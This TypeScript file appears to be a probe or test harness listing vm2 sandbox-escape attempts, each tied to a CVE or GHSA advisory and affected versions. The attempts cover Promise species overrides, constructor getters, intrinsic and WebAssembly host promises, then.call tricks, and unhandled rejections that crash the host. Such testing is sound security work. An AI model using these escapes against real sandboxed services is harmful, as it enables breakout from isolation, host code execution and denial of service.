/** Published ways out through promises, which call back after everything has been looked at. What they get comes late. */
import { attempted } from './plunder.ts';
import { type BreakOut, type Loose, late, realm } from './probe.ts';
import { caught, hostThings, ofUnspeakable, thenable, unspeakable } from './reach.ts';

/** A constructor of promises that keeps what it is resolved and rejected with. */
function collector(): Loose {
  return class {
    constructor(executor: (resolve: unknown, reject: unknown) => void) {
      executor(
        (value: unknown) => void late.push(value),
        (reason: unknown) => void late.push(reason),
      );
    }
  };
}

function promises(): Loose[] {
  return [
    attempted(() => Promise.resolve(1)),
    attempted(() => Promise.reject(ofUnspeakable())),
    attempted(() => new Promise(() => unspeakable().stack)),
    attempted(() => Promise.withResolvers().promise),
    ...hostThings().filter((thing) => typeof thing?.then === 'function'),
  ].filter((promise) => promise !== undefined);
}

const keep = (value: unknown): void => void late.push(value);

export const promised: readonly BreakOut[] = [
  {
    name: 'species-of-a-promise',
    advisory: 'CVE-2023-37466, GHSA-cchq-frgv-rjh5',
    versions: '≤ 3.9.19',
    idea: 'then makes its promise with the species of the first one: a class of ours is given what nobody looked at',
    attempt() {
      for (const promise of promises()) {
        attempted(() => (promise.constructor = { [Symbol.species]: collector() }));
        attempted(() => promise.then());
        attempted(() => promise.catch());
      }
      return late;
    },
  },
  {
    name: 'species-that-changes-its-mind',
    advisory: 'CVE-2026-24120, GHSA-qvjj-29qf-hp7p',
    versions: '≤ 3.10.3',
    idea: 'The constructor is a getter that answers right the first time, when it is checked, and with our class the second',
    attempt() {
      for (const promise of promises()) {
        let asked = 0;
        attempted(() =>
          Object.defineProperty(promise, 'constructor', {
            get: () => (asked++ === 0 ? Promise : { [Symbol.species]: collector() }),
          }),
        );
        attempted(() => promise.then());
        attempted(() => Promise.prototype.then.call(promise, keep, keep));
      }
      attempted(() =>
        Object.defineProperty(Object.getPrototypeOf(Promise), Symbol.hasInstance, { value: () => false }),
      );
      return late;
    },
  },
  {
    name: 'callbacks-of-intrinsic-promises',
    advisory: 'CVE-2026-22709, GHSA-99p7-6v5w-7xg8',
    versions: '≤ 3.10.1',
    idea: 'The engine’s own promises are not vm2’s: their handlers are given errors of the host as they are',
    attempt() {
      const base = Object.getPrototypeOf(Promise) as Loose;
      for (const promise of [
        ...promises(),
        attempted(() => new base((_: unknown, reject: Loose) => reject(ofUnspeakable()))),
      ]) {
        for (const method of ['then', 'catch', 'finally']) {
          attempted(() => base.prototype[method].call(promise, keep, keep));
          attempted(() => (promise as Loose)[method](keep, keep));
        }
      }
      return [base, ...late];
    },
  },
  {
    name: 'stolen-statics',
    advisory: 'vm2 catalogue, 7',
    versions: '≤ 3.10.3',
    idea: 'Promise.all and its like, called on a class of ours, reject it with the host’s error of a broken iteration',
    attempt() {
      const own: Loose = collector();
      own.resolve = () => ({});
      for (const name of ['all', 'race', 'any', 'allSettled', 'try', 'resolve', 'reject', 'withResolvers']) {
        attempted(() => (Promise as Loose)[name].call(own, { [Symbol.iterator]: () => unspeakable().stack }));
        attempted(() => (Promise as Loose)[name].call(own, () => unspeakable().stack));
      }
      attempted(() => Reflect.construct(Promise, [() => unspeakable().stack], own));
      attempted(() => Reflect.construct(Object.getPrototypeOf(Promise), [() => unspeakable().stack], own));
      return late;
    },
  },
  {
    name: 'array-from-async',
    advisory: 'vm2 catalogue, 19',
    versions: '≤ 3.10.5',
    idea: 'Array.fromAsync of the host returns a promise of the host, whose handlers nobody wraps',
    attempt() {
      for (const source of [Array, ...hostThings().map((thing) => thing?.constructor)]) {
        const promise = attempted(() =>
          (source as Loose).fromAsync([thenable((_: Loose, reject: Loose) => reject(ofUnspeakable()))]),
        );
        attempted(() => promise.then(keep, keep));
        late.push(promise);
      }
      return late;
    },
  },
  {
    name: 'fulfilled-with-no-prototype',
    advisory: 'CVE-2026-44000, GHSA-mpf8-4hx2-7cjg',
    versions: '≤ 3.10.5',
    idea: 'A promise of the host fulfilled with an object without a prototype hands it over unwrapped',
    attempt() {
      const carrier: Loose = Object.create(null);
      attempted(() => Promise.resolve(carrier).then((value: Loose) => (value.held = hostThings()[0])));
      for (const promise of promises()) attempted(() => promise.then(keep));
      return [carrier.held, ...late];
    },
  },
  {
    name: 'species-at-the-swallowing-end',
    advisory: 'CVE-2026-47208, GHSA-76w7-j9cq-rx2j',
    versions: '≤ 3.11.3',
    idea: 'vm2 puts an end of its own to each promise, and that end asks the species of a subclass of ours',
    attempt() {
      class Own extends Promise<unknown> {
        static override get [Symbol.species](): Loose {
          return collector();
        }
      }
      attempted(() => new Own((resolve) => resolve(1)));
      attempted(() => new Own(() => unspeakable().stack));
      return late;
    },
  },
  {
    name: 'suspended-webassembly',
    advisory: 'CVE-2026-47210, GHSA-6j2x-vhqr-qr7q',
    versions: '≤ 3.11.3',
    idea: 'A promise that WebAssembly makes has the host’s prototype and is no proxy: neither defence sees it',
    attempt: () => [
      attempted(() => realm.WebAssembly.promising),
      attempted(() => new realm.WebAssembly.Suspending(() => {})),
      attempted(() => realm.WebAssembly.promising(() => {})()),
    ],
  },
  {
    name: 'streamed-webassembly',
    advisory: 'CVE-2026-92956, GHSA-wjwh-qqvp-g4p4',
    versions: '3.10.1 – 3.11.6',
    idea: 'So has the promise of compileStreaming, and it rejects with an error of the host',
    attempt() {
      for (const name of ['compileStreaming', 'instantiateStreaming', 'compile', 'instantiate']) {
        const promise = attempted(() => realm.WebAssembly[name](0));
        attempted(() => Object.defineProperty(promise, 'constructor', { get: () => collector() }));
        attempted(() => promise.finally(() => {}));
        attempted(() => promise.catch(keep));
        late.push(promise);
      }
      return late;
    },
  },
  {
    name: 'finally-without-then',
    advisory: 'CVE-2026-92944, GHSA-27g9-p43v-cw3v',
    versions: '3.10.2 – 3.11.6',
    idea: 'The engine believes that nobody changed then, and finally calls its own, past what vm2 put there',
    attempt() {
      for (const promise of promises()) {
        attempted(() => Object.defineProperty(promise, 'constructor', { value: { [Symbol.species]: collector() } }));
        attempted(() => promise.finally());
        attempted(() => promise.finally(() => unspeakable().stack));
      }
      return late;
    },
  },
  {
    name: 'then-by-call',
    advisory: 'CVE-2026-92937, GHSA-647f-g98j-qq25',
    versions: '3.11.6',
    idea: 'then.call and then.apply of a promise of the host register a handler that the bridge does not see',
    attempt() {
      for (const promise of promises()) {
        attempted(() => promise.then.call(promise, keep, keep));
        attempted(() => promise.then.apply(promise, [keep, keep]));
        attempted(() => promise.then.call.call(promise.then, promise, keep, keep));
        attempted(() => promise.catch.call(promise, keep));
      }
      return late;
    },
  },
  {
    name: 'no-handler-at-all',
    advisory: 'GHSA-6454-5x88-m6jw',
    versions: '≤ 3.12.0',
    idea: 'Without a handler there is nothing to wrap: the engine hands the rejection of a host’s promise to its species',
    attempt() {
      for (const promise of promises()) {
        attempted(() => (promise.constructor = { [Symbol.species]: collector() }));
        attempted(() => promise.then());
        attempted(() => Reflect.apply(promise.then, promise, []));
        attempted(() => promise.finally());
      }
      return late;
    },
  },
  {
    name: 'thenables-after-the-end',
    advisory: 'CVE-2026-92959, GHSA-f8gf-w286-fmq2',
    versions: '≤ 3.11.7',
    idea: 'With allowAsync off a thenable is still called later, when nobody watches the time',
    attempt() {
      const after = thenable(() => void late.push('called after the end'));
      const base = Object.getPrototypeOf(Promise) as Loose;
      for (const act of [
        () => Promise.resolve(after),
        () => Promise.all([after]),
        () => Promise.race([after]),
        () => Promise.any([after]),
        () => Promise.allSettled([after]),
        () => new Promise((resolve) => resolve(after)),
        () => Promise.withResolvers().resolve(after),
        () => (Promise as Loose).try(() => after),
        () => (Array as Loose).fromAsync([after]),
        () => new base((resolve: Loose) => resolve(after)),
        () => Reflect.construct(base, [(resolve: Loose) => resolve(after)], Promise),
      ]) {
        attempted(act);
      }
      return late;
    },
  },
  {
    name: 'rejection-that-ends-the-host',
    advisory: 'CVE-2026-44001, GHSA-hw58-p9xv-2mjh',
    versions: '≤ 3.10.5',
    idea: 'A rejection that nobody handles ends the process that runs the sandbox',
    attempt: () => [
      caught(() => new Promise(() => unspeakable().stack)),
      caught(() => Promise.reject(new Error('nobody'))),
      caught(() => Promise.withResolvers().reject(new Error('nobody'))),
    ],
  },
  {
    name: 'host-promise-nobody-takes',
    advisory: 'CVE-2026-92954, GHSA-gjq8-xm47-88rc; CVE-2026-100722, GHSA-2v2p-6j97-cjg9',
    versions: '3.10.0 – 3.12.1',
    idea: 'A rejected promise of the host, got by a call, by new or by a getter, and then ignored, ends the host',
    attempt: () =>
      hostThings().flatMap((thing) => [
        attempted(() => thing.reject?.(1)),
        attempted(() => new thing(() => {})),
        attempted(() => realm.WebAssembly.compile(0)),
      ]),
  },
];
